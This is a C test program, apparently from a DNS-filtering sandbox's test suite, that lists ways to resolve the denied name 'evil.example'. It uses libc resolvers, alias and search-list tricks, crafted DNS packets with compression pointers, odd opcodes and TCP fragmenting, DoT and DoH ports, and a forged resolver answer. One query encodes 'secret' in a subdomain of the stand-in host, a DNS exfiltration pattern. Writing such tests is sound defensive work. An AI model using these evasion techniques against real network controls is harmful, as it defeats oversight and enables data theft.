/*
 * names - ways to have the denied name resolved: through the C library, and with questions put together by hand.
 *
 * build: names gcc -lanl -lresolv
 * build: names-static gcc -static -DNO_LIBRARY
 * build: names-musl musl-gcc -DPLAIN_LIBRARY
 * build: names-musl-static musl-gcc -static -DPLAIN_LIBRARY
 */
#include "attempt.h"

#include <netdb.h>
#include <poll.h>
#include <sys/uio.h>
#if !defined NO_LIBRARY && !defined PLAIN_LIBRARY
#include <resolv.h>
#endif

#define NAME "evil.example"
#define RESOLVER "203.0.113.53"
#define OTHER "203.0.113.54"

/* ---- the C library ---- */

#ifndef NO_LIBRARY
static void ask(const char *name)
{
	struct addrinfo *found, hints = {.ai_socktype = SOCK_STREAM};
	int error = getaddrinfo(name, "80", &hints, &found);
	if (error)
		fprintf(stderr, "%s: %s\n", name, gai_strerror(error));
}

static void by_getaddrinfo(void)
{
	ask(NAME);
}

static void trailing_dot(void)
{
	ask(NAME ".");
}

static void capitals(void)
{
	ask("EVIL.Example");
}

static void below(void)
{
	ask("c2VjcmV0.evil.example");
}

static void by_gethostbyname(void)
{
	if (!gethostbyname(NAME))
		fprintf(stderr, "gethostbyname: %d\n", h_errno);
}
#endif

#if !defined NO_LIBRARY && !defined PLAIN_LIBRARY
static void by_gethostbyname2(void)
{
	char room[4096];
	struct hostent entry, *result;
	int error;
	gethostbyname2_r(NAME, AF_INET6, &entry, room, sizeof room, &result, &error);
}

static void asynchronous(void)
{
	struct gaicb question = {.ar_name = NAME}, *list[] = {&question};
	getaddrinfo_a(GAI_WAIT, list, 1, NULL);
}

static void by_res_query(void)
{
	unsigned char answer[512];
	if (res_query(NAME, 1, 16 /* TXT */, answer, sizeof answer) < 0)
		fprintf(stderr, "res_query: %d\n", h_errno);
}

/* The library's own resolver, told to ask somebody else. */
static void own_resolver_state(void)
{
	unsigned char answer[512];
	struct __res_state state = {0};
	res_ninit(&state);
	state.nscount = 1;
	state.nsaddr_list[0] = address4(OTHER, 53);
	if (res_nquery(&state, NAME, 1, 1, answer, sizeof answer) < 0)
		fprintf(stderr, "res_nquery failed\n");
}

/* A file of aliases: "innocent" is another name for the denied one. */
static void alias(void)
{
	FILE *f = fopen("/tmp/aliases", "w");
	fputs("innocent " NAME "\n", f);
	fclose(f);
	setenv("HOSTALIASES", "/tmp/aliases", 1);
	ask("innocent");
}

static void search_list(void)
{
	setenv("LOCALDOMAIN", "example", 1);
	ask("evil");
}
#endif

/* ---- by hand ---- */

struct question {
	unsigned char bytes[512];
	size_t length;
};

static void add(struct question *q, const void *bytes, size_t length)
{
	memcpy(q->bytes + q->length, bytes, length);
	q->length += length;
}

/* The header says how many questions and additional records follow. */
static struct question head(unsigned char questions, unsigned char additional)
{
	struct question q = {.length = 0};
	unsigned char h[12] = {0x12, 0x34, 1, 0, 0, questions, 0, 0, 0, 0, 0, additional};
	add(&q, h, sizeof h);
	return q;
}

static struct question usual(void)
{
	struct question q = head(1, 0);
	add(&q, "\4evil\7example\0\0\1\0\1", 18);
	return q;
}

static void await(int fd)
{
	char answer[512];
	struct pollfd p = {fd, POLLIN, 0};
	if (poll(&p, 1, 300) == 1 && read(fd, answer, sizeof answer) < 0)
		perror("read");
}

static void post(const struct question *q, const char *host, int port)
{
	struct sockaddr_in a = address4(host, port);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (sendto(fd, q->bytes, q->length, 0, (struct sockaddr *)&a, sizeof a) < 0)
		perror("sendto");
	await(fd);
}

static void udp(void)
{
	struct question q = usual();
	post(&q, RESOLVER, 53);
}

static void mixed_case(void)
{
	struct question q = head(1, 0);
	add(&q, "\4eViL\7ExAmPlE\0\0\1\0\1", 18);
	post(&q, RESOLVER, 53);
}

static void two_questions(void)
{
	struct question q = head(2, 0);
	add(&q, "\4good\7example\0\0\1\0\1", 18);
	add(&q, "\4evil\7example\0\0\1\0\1", 18);
	post(&q, RESOLVER, 53);
}

/* The second question's name ends in a pointer into the first one's. */
static void pointer(void)
{
	struct question q = head(2, 0);
	add(&q, "\4good\7example\0\0\1\0\1", 18);
	add(&q, "\4evil\xc0\x11\0\1\0\1", 11);
	post(&q, RESOLVER, 53);
}

/* The question's own name is a pointer to bytes that follow it. */
static void pointer_ahead(void)
{
	struct question q = head(1, 0);
	add(&q, "\xc0\x12\0\1\0\1\4evil\7example\0", 20);
	post(&q, RESOLVER, 53);
}

static void extended(void)
{
	struct question q = head(1, 1);
	add(&q, "\4evil\7example\0\0\1\0\1", 18);
	add(&q, "\0\0\x29\x10\0\0\0\0\0\0\0", 11);
	post(&q, RESOLVER, 53);
}

static void odd_type(void)
{
	struct question q = head(1, 0);
	add(&q, "\4evil\7example\0\0\xff\0\1", 18);
	post(&q, RESOLVER, 53);
}

static void odd_class(void)
{
	struct question q = head(1, 0);
	add(&q, "\4evil\7example\0\0\1\0\3", 18);
	post(&q, RESOLVER, 53);
}

/* Not a question by its header, but a zone transfer's notice. */
static void odd_operation(void)
{
	struct question q = usual();
	q.bytes[2] = 0x20;
	post(&q, RESOLVER, 53);
}

static void other_resolver(void)
{
	struct question q = usual();
	post(&q, OTHER, 53);
}

static void other_port(void)
{
	struct question q = usual();
	post(&q, OTHER, 5353);
}

static void connected(void)
{
	struct question q = usual();
	struct sockaddr_in a = address4(RESOLVER, 53);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) || write(fd, q.bytes, q.length) < 0)
		give_up("write");
	await(fd);
}

static void mapped(void)
{
	struct question q = usual();
	struct sockaddr_in6 a = address6("::ffff:" OTHER, 53);
	int fd = socket(AF_INET6, SOCK_DGRAM, 0);
	if (sendto(fd, q.bytes, q.length, 0, (struct sockaddr *)&a, sizeof a) < 0)
		perror("sendto");
	await(fd);
}

static void several(void)
{
	struct question good = head(1, 0), evil = usual();
	struct sockaddr_in a = address4(RESOLVER, 53);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	add(&good, "\4good\7example\0\0\1\0\1", 18);
	struct iovec parts[2] = {{good.bytes, good.length}, {evil.bytes, evil.length}};
	struct mmsghdr m[2] = {
		{.msg_hdr = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &parts[0], .msg_iovlen = 1}},
		{.msg_hdr = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &parts[1], .msg_iovlen = 1}},
	};
	if (sendmmsg(fd, m, 2, 0) < 0)
		perror("sendmmsg");
	await(fd);
	await(fd);
}

static void stream_to(const char *host, int port)
{
	struct question q = usual();
	struct sockaddr_in a = address4(host, port);
	unsigned char length[2] = {0, (unsigned char)q.length};
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) || write(fd, length, 2) < 0 || write(fd, q.bytes, q.length) < 0)
		give_up("tcp");
	await(fd);
}

static void tcp(void)
{
	stream_to(RESOLVER, 53);
}

static void tcp_other(void)
{
	stream_to(OTHER, 53);
}

/* Two questions on one connection, the second one in pieces. */
static void tcp_pieces(void)
{
	struct question good = head(1, 0), evil = usual();
	struct sockaddr_in a = address4(RESOLVER, 53);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	unsigned char all[128] = {0};
	add(&good, "\4good\7example\0\0\1\0\1", 18);
	all[1] = (unsigned char)good.length;
	memcpy(all + 2, good.bytes, good.length);
	all[3 + good.length] = (unsigned char)evil.length;
	memcpy(all + 4 + good.length, evil.bytes, evil.length);
	if (connect(fd, (struct sockaddr *)&a, sizeof a))
		give_up("connect");
	for (size_t i = 0; i < 4 + good.length + evil.length; i++)
		if (write(fd, all + i, 1) < 0)
			give_up("write");
	await(fd);
	await(fd);
}

static void over_tls_port(void)
{
	stream_to(OTHER, 853);
}

/* What the inside of a DNS-over-HTTPS request looks like. */
static void over_https_port(void)
{
	static const char request[] = "GET /dns-query?name=evil.example&type=A HTTP/1.1\r\nHost: dns\r\n\r\n";
	struct sockaddr_in a = address4(OTHER, 443);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) || write(fd, request, sizeof request - 1) < 0)
		give_up("https");
	await(fd);
}

/* An allowed name is looked up; then the address of another host is used. */
static void raw_address(void)
{
	struct question q = head(1, 0);
	struct sockaddr_in a = address4("203.0.113.8", 8080);
	add(&q, "\4good\7example\0\0\1\0\1", 18);
	post(&q, RESOLVER, 53);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) || write(fd, "hello", 5) < 0)
		give_up("connect");
}

/* An answer to no question, sent to the resolver: it must not learn the address in it. */
static void forged_answer(void)
{
	struct question q = head(1, 0);
	struct sockaddr_in a = address4("203.0.113.8", 8080);
	q.bytes[2] = 0x81;
	q.bytes[3] = 0x80;
	q.bytes[7] = 1;
	add(&q, "\4good\7example\0\0\1\0\1", 18);
	add(&q, "\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\xcb\0\x71\x08", 16);
	post(&q, RESOLVER, 53);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) || write(fd, "hello", 5) < 0)
		give_up("connect");
}

int main(int argc, char **argv)
{
	static const struct way ways[] = {
#ifndef NO_LIBRARY
		{"getaddrinfo", by_getaddrinfo}, {"trailing-dot", trailing_dot}, {"capitals", capitals}, {"below", below},
		{"gethostbyname", by_gethostbyname},
#endif
#if !defined NO_LIBRARY && !defined PLAIN_LIBRARY
		{"gethostbyname2", by_gethostbyname2}, {"getaddrinfo_a", asynchronous}, {"res-query", by_res_query},
		{"own-resolver-state", own_resolver_state}, {"alias", alias}, {"search-list", search_list},
#endif
		{"udp", udp}, {"mixed-case", mixed_case}, {"two-questions", two_questions}, {"pointer", pointer},
		{"pointer-ahead", pointer_ahead}, {"edns", extended}, {"odd-type", odd_type}, {"odd-class", odd_class},
		{"odd-operation", odd_operation}, {"other-resolver", other_resolver}, {"other-port", other_port},
		{"connected", connected}, {"mapped", mapped}, {"sendmmsg", several}, {"tcp", tcp}, {"tcp-other", tcp_other},
		{"tcp-pieces", tcp_pieces}, {"dot", over_tls_port}, {"doh", over_https_port}, {"raw-address", raw_address}, {"forged-answer", forged_answer},
		{NULL, NULL},
	};
	return take(ways, argc, argv);
}
